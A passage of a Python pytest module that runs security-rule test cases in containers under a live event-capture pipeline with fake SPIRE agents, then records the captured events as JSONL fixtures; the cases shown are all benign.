    *GENERAL_CASES,
    *IDENTITY_CASES,
    Case("benign-http", None, False, HTTP_SERVER),
    Case("benign-config", None, False, CONFIG_READER, {"secrets": SECRET}),
    Case("benign-pip-version", None, False, "", argv=("/usr/bin/pip", "--version")),
    Case("benign-agent", None, False, AGENT_LOOP),
)


@dataclass
class LiveResult:
    """One case's events, in pipeline order, and the JSONL file they were recorded to."""

    case: Case
    events: list[Event]
    jsonl: Path
    container: str | None = None  # the case's own container (not its twin's); None: a host process


def _host_events(events: list[Event], pid: int) -> list[Event]:
    return [e for e in events if e.pid == pid and e.container is None]


#: Containers the live fixture runs at once.
PARALLEL_RUNS = 4


def _svids(cases: tuple[Case, ...]) -> list[tuple[str, str]]:
    """Every distinct ``svid`` option of ``cases`` (their twins' included), in order."""
    out: list[tuple[str, str]] = []
    for case in cases:
        for opts in (case.options, case.options.get("twin") or {}):
            if "svid" in opts and opts["svid"] not in out:
                out.append(opts["svid"])
    return out


def _pod_facts(spec: dict[str, Any], container_id: str) -> PodFacts:
    owner = spec["owner"] or (None, None)
    return PodFacts(name=spec["name"], namespace=spec["namespace"], uid=f"uid-{spec['name']}-{container_id}",
                    annotations=spec["annotations"], service_account=spec["service_account"],
                    owner_kind=owner[0], owner_name=owner[1],
                    containers=(ContainerFacts(name=spec["container"], id=container_id),))


@pytest.fixture(scope="session")
def rulepack_live(runc_rootfs: Rootfs) -> Iterator[dict[str, LiveResult]]:
    """Runs every case once under one live pipeline; maps case name -> LiveResult."""
    require_kernel_sensor()
    work = Path(tempfile.mkdtemp(prefix="rw-rulepack-"))
    sock_dir = work / "sdk"
    sock_dir.mkdir()
    os.chmod(sock_dir, 0o755)
    srv, srv_thread = accepting_listener()
    port = srv.getsockname()[1]
    ca = TestCA(TRUST_DOMAIN)
    spire: dict[tuple[str, str], FakeSpireAgent] = {}
    for n, (how, sid) in enumerate([("bundle", ""), *_svids(CASES)]):
        d = work / f"spire{n}"
        d.mkdir()
        os.chmod(d, 0o755)
        svids = [] if how == "bundle" else [ca.issue(sid) if how == "valid" else self_signed_svid(sid)]
        spire[(how, sid)] = FakeSpireAgent(d / "agent.sock", ca, svids).start()
    live = LiveCapture(sdk_socket=sock_dir / "sdk.sock", hold_ms=200.0,
                       watches=watchlist.default_watches() + list(EXTRA_WATCHES), quiet=0.4, limit=20.0)
    pods = live.enrich.workload.pods = PodIndex()
    live.enrich.attestor.bundles = TrustBundles(socket=spire[("bundle", "")].endpoint)
    live.start()
    containers: list[RuncContainer] = []
    owners: dict[str, tuple[list[str], int]] = {}
    env = {"PORT": str(port), "RUNWATCH_SOCKET": f"{SDK_DIR_IN_CONTAINER}/sdk.sock"}

    def container_of(case: Case, twin: bool = False) -> RuncContainer:
        overrides = case.options.get("twin") or {} if twin else {}
        options = {"annotations": {ROLE_LABEL: "model-server"}, **case.options, **overrides}
        options.pop("twin", None)
        name = f"{case.name}-twin" if twin else case.name
        binds = [Bind(sock_dir, SDK_DIR_IN_CONTAINER, False)]
        for where in options.pop("rw_dirs", ()):  # writable scratch directories over the read-only rootfs
            scratch = work / name / where.strip("/").replace("/", "_")
            scratch.mkdir(parents=True)
            binds.append(Bind(scratch, where, False))
        c_env = dict(env)
        if "svid" in options:
            agent = spire[options.pop("svid")]
            binds.append(Bind(agent.socket_path.parent, SPIRE_DIR_IN_CONTAINER, False))
            c_env["SPIFFE_ENDPOINT_SOCKET"] = f"unix://{SPIRE_DIR_IN_CONTAINER}/{agent.socket_path.name}"
        if "tokens" in options:
            tokens = work / name / "tokens"
            tokens.mkdir(parents=True)
            for key, value in options.pop("tokens").items():
                (tokens / key).write_bytes(value)
            binds.append(Bind(tokens, TOKENS_DIR_IN_CONTAINER, True))
        pod = options.pop("pod", None)
        c = RuncContainer(runc_rootfs, name=name, env=c_env, binds=binds, **options)
        if pod is not None:
            pods.put(_pod_facts(pod, c.id))
        containers.append(c)
        owners.setdefault(case.name, ([], 0))[0].append(c.id)
        return c

    def run_in(c: RuncContainer, case: Case) -> None:
        args = list(case.argv) if case.argv else [case.python, "-c", case.code]
        res = c.run(args, timeout=60)
        assert res.returncode == 0, f"{case.name}: rc {res.returncode}: {res.stderr.decode()[-600:]}"

    try:
        # Workloads that do not talk to the SDK are independent (events are told apart by
        # container), so they run a few at a time; SDK workloads each get a fresh join.
        plain = [c for c in CASES if not c.host and not c.uses_sdk and "twin" not in c.options]
        with ThreadPoolExecutor(max_workers=PARALLEL_RUNS) as pool:
            for done in [pool.submit(run_in, container_of(case), case) for case in plain]:
                done.result()
        for case in CASES:
            if case in plain:
                continue
            if "twin" in case.options:  # the other workload first: the case's own container shows the reuse
                live.fresh_join()
                run_in(container_of(case, twin=True), case)
            live.fresh_join()
            if case.host:
                proc = subprocess.Popen([sys.executable, "-c", case.code], env={**os.environ, **env},
                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE)
                _, err = proc.communicate(timeout=60)
                assert proc.returncode == 0, f"{case.name}: {err.decode()[-400:]}"
                owners[case.name] = ([], proc.pid)
            else:
                run_in(container_of(case), case)
        events = live.settle()
    finally:
        live.stop()
        srv.close()
        srv_thread.join(timeout=5)
        for c in containers:
            c.close()
        for agent in spire.values():
            agent.stop()
    results: dict[str, LiveResult] = {}
    record = os.environ.get(RECORD_ENV) == "1"
    for case in CASES:
        ids, pid = owners[case.name]
        if not ids:
            mine = _host_events(events, pid)
        else:
            mine = [e for e in events if e.container is not None and e.container.id in ids]
        path = work / f"{case.name}.jsonl"
        _write_jsonl(path, mine)
        if record:
            FIXTURES.mkdir(exist_ok=True)
            (FIXTURES / fixture_name(case)).write_bytes(gzip.compress(path.read_bytes(), mtime=0))
        results[case.name] = LiveResult(case, mine, path, ids[-1] if ids else None)
    try:
        yield results
    finally:
        shutil.rmtree(work, ignore_errors=True)


def fixture_name(case: Case) -> str:
    """``<rule>.pos.jsonl.gz`` / ``<rule>.neg.jsonl.gz``, or ``benign.<case>.jsonl.gz``."""
    if case.rule is None:
        return f"benign.{case.name}.jsonl.gz"
    verdict = ("pos" if case.positive else "neg") + (f"-{case.tag}" if case.tag else "")
    return f"{case.rule}.{verdict}.jsonl.gz"


def _write_jsonl(path: Path, events: list[Event]) -> None:
    out = JsonlOutput(path)
    out.open()
    try:
        out.write(events)
    finally:
        out.close()


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """Parametrize ``live_case`` over every case (ids are the case names)."""
    if "live_case" in metafunc.fixturenames:
        metafunc.parametrize("live_case", CASES, ids=[c.name for c in CASES])
